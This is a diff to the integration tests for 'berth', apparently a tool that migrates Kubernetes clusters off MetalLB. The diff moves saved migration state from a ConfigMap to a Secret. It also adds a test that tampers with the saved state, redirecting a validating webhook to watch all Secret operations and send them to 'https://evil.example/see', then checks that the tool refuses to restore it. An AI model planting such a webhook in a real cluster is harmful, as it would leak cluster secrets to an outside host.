@@ -24,7 +24,7 @@ const WEBHOOK = `${WEBHOOKS}/metallb-webhook-configuration`;
 const CRD = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/bgppeers.metallb.io';
 const DEPLOYMENTS = `/apis/apps/v1/namespaces/${NAMESPACE}/deployments`;
 const SECRETS = `/api/v1/namespaces/${NAMESPACE}/secrets`;
-const SAVED = `/api/v1/namespaces/${NAMESPACE}/configmaps/berth-migration`;
+const SAVED = `/api/v1/namespaces/${NAMESPACE}/secrets/berth-migration`;
 
 describe('leaving MetalLB on a real API server', { skip: skipWithoutKubernetesBinaries() }, () => {
   let rig: Rig;
@@ -148,7 +148,7 @@ describe('leaving MetalLB on a real API server', { skip: skipWithoutKubernetesBi
     assert.deepEqual(await world(), installed);
     const again = await berth('--back');
     assert.equal(again.code, 0);
-    assert.match(again.out, /^Nothing to restore: there is no ConfigMap berth-migration/);
+    assert.match(again.out, /^Nothing to restore: there is no Secret berth-migration/);
   });
 
   it('can be broken off after any step and run again', async () => {
@@ -177,6 +177,35 @@ describe('leaving MetalLB on a real API server', { skip: skipWithoutKubernetesBi
       assert.equal((await berth('--back', '--yes')).code, 0);
       assert.deepEqual(await world(), installed, `back, after ${done}`);
     }
+  });
+
+  it('shows what it restores, and restores nothing that somebody has planted', async () => {
+    await berth('--yes');
+    const shown = await berth('--back');
+    assert.equal(shown.code, 3);
+    assert.match(shown.out, /writes to bgppeers of metallb\.io are checked by Service/);
+    const { type, data } = await rig.api.requestOk<AnyObject>('GET', SAVED);
+    assert.equal(type, 'berth.dev/migration');
+    const saved = JSON.parse(Buffer.from(data['saved.json'], 'base64').toString());
+    const rules = [{ apiGroups: [''], apiVersions: ['v1'], operations: ['*'], resources: ['secrets'] }];
+    saved.webhooks[0].webhooks[0].rules = rules;
+    saved.webhooks[0].webhooks[0].clientConfig = { url: 'https://evil.example/see' };
+    const text = Buffer.from(JSON.stringify(saved)).toString('base64');
+    await rig.api.requestOk('PATCH', SAVED, { data: { 'saved.json': text } });
+    const back = await berth('--back', '--yes');
+    assert.deepEqual([back.code, back.err], [3, '']);
+    assert.match(
+      back.out,
+      /Not restored\n {2}ValidatingWebhookConfiguration metallb-webhook-configuration\n/,
+    );
+    assert.match(back.out, /matches "secrets", which MetalLB does\s+not validate/);
+    const now = await world();
+    assert.deepEqual([now.webhooks, now.conversion.strategy, now.saved], [null, 'Webhook', 200]);
+    await rig.api.requestOk('DELETE', SAVED);
+    await rig.api.requestOk('POST', SECRETS, { metadata: { name: 'berth-migration' } });
+    const foreign = await berth('--back', '--yes');
+    assert.equal(foreign.code, 1);
+    assert.match(foreign.err, /is not of the type berth\.dev\/migration/);
   });
 
   it('says which kubeconfig cannot be read', async () => {
